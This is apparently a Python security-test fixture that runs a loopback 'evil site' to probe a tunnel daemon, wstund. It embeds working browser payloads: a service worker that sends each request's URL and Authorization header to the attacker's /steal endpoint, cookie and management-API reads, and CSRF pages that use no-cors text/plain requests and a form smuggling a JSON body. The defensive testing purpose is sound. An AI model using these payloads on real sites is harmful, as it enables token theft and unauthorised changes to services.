"""An attacker's web server for the security tests: pages that try to manage wstund.

Served by Hypercorn on its own loopback port (another origin than the daemon), it is also the
local app behind a tunnel. It records every request it gets (``loot``), so a test can see
whether anything (a service worker, a Referer) ever carried a token to it.
"""

from __future__ import annotations

import functools
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qs

import trio
from hypercorn.config import Config as HypercornConfig
from hypercorn.trio import serve

# Run on a page served by wstund (or tunnelled through it): read and write the management API,
# send a "simple" write, register a service worker over the whole origin, read the cookies.
# ``window.__attack`` holds what happened. SW_URL is replaced by the worker's URL.
ATTACK_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>attack</title>
</head><body><p>nothing to see</p><script>
(async () => {
  const out = {};
  try {
    const r = await fetch("/_api/tunnel/clients", { credentials: "include" });
    out.read = r.status; out.body = (await r.text()).slice(0, 300);
  } catch (e) { out.read = "blocked"; }
  try {
    const r = await fetch("/_api/tunnel/clients", {
      method: "POST", credentials: "include", headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ id: "stolen" }) });
    out.write = r.status;
  } catch (e) { out.write = "blocked"; }
  try {
    await fetch("/_api/tunnel/clients", {
      method: "POST", mode: "no-cors", credentials: "include",
      headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ id: "simple" }) });
    out.simple = "sent";
  } catch (e) { out.simple = "blocked"; }
  try {
    await navigator.serviceWorker.register("SW_URL", { scope: "/" });
    out.sw = "registered";
  } catch (e) { out.sw = "refused: " + e; }
  try { out.cookie = document.cookie; } catch (e) { out.cookie = "blocked"; }
  window.__attack = out;
})();
</script></body></html>
"""

# A service worker over the whole origin that sends every request it sees (URL and
# Authorization header) to the attacker, then lets it through.
WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", e => {
  const auth = e.request.headers.get("Authorization") || "";
  fetch("EVIL/steal?u=" + encodeURIComponent(e.request.url) + "&a=" + encodeURIComponent(auth),
        { mode: "no-cors" }).catch(() => {});
});
"""

# A page on the attacker's own origin: cross-origin writes to the daemon as a browser sends
# them without a preflight (fetch no-cors with text/plain, a JSON body through a text/plain
# form), and one with a preflight (JSON fetch in cors mode).
CSRF_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>csrf</title></head>
<body><form id="form" method="post" enctype="text/plain" action="DAEMON/_api/tunnel/clients">
<input type="hidden" name='{"id": "formed", "x": "' value='"}'></form><script>
(async () => {
  const out = {};
  try {
    await fetch("DAEMON/_api/tunnel/clients", {
      method: "POST", mode: "no-cors", credentials: "include",
      headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ id: "plain" }) });
    out.plain = "sent";
  } catch (e) { out.plain = "blocked"; }
  try {
    await fetch("DAEMON/_api/services/chat/disable", {
      method: "POST", mode: "no-cors", credentials: "include" });
    out.disable = "sent";
  } catch (e) { out.disable = "blocked"; }
  try {
    const r = await fetch("DAEMON/_api/tunnel/clients", {
      method: "POST", credentials: "include", headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ id: "preflighted" }) });
    out.json = r.status;
  } catch (e) { out.json = "blocked"; }
  window.__attack = out;
})();
</script></body></html>
"""


@dataclass
class EvilSite:
    """The attacker's server; ``loot`` lists every request it received (path?query + headers)."""

    port: int = 0
    daemon_url: str = ""
    loot: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def attack_page(self, worker_url: str) -> bytes:
        """The attack page, registering the worker at ``worker_url``."""
        return ATTACK_PAGE.replace("SW_URL", worker_url).encode()

    def worker(self) -> bytes:
        """The service worker script that exfiltrates to this site."""
        return WORKER.replace("EVIL", self.url).encode()

    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] == "lifespan":
            while (await receive())["type"] != "lifespan.shutdown":
                await send({"type": "lifespan.startup.complete"})
            await send({"type": "lifespan.shutdown.complete"})
            return
        if scope["type"] != "http":
            return
        query = scope["query_string"].decode("latin-1")
        headers = "; ".join(f"{k.decode()}={v.decode('latin-1')}" for k, v in scope["headers"])
        self.loot.append(f"{scope['path']}?{query} {headers}")
        path = scope["path"].rsplit("/", 1)[-1]
        if path == "page":
            body, ctype, extra = self.attack_page("sw.js"), b"text/html", []
        elif path == "escape":  # its own, permissive sandbox, hoping to keep the origin
            body, ctype = self.attack_page("sw.js"), b"text/html"
            extra = [(b"content-security-policy", b"sandbox allow-same-origin allow-scripts")]
        elif path == "sw.js":
            body, ctype = self.worker(), b"text/javascript"
            extra = [(b"service-worker-allowed", b"/")]
        elif path == "csrf":
            body, ctype, extra = (
                CSRF_PAGE.replace("DAEMON", self.daemon_url).encode(),
                b"text/html",
                [],
            )
        else:
            body, ctype, extra = parse_qs(query).get("u", [""])[0].encode(), b"text/plain", []
        headers_out = [(b"content-type", ctype), *extra]
        await send({"type": "http.response.start", "status": 200, "headers": headers_out})
        await send({"type": "http.response.body", "body": body})


async def start_evil_site(nursery: trio.Nursery, daemon_url: str) -> EvilSite:
    """Serve an EvilSite on a random loopback port in ``nursery``."""
    site = EvilSite(daemon_url=daemon_url)
    config = HypercornConfig()
    config.bind = ["127.0.0.1:0"]
    config.errorlog = None
    config.accesslog = None
    binds = await nursery.start(functools.partial(serve, site, config))
    site.port = int(binds[0].rsplit(":", 1)[1])
    return site
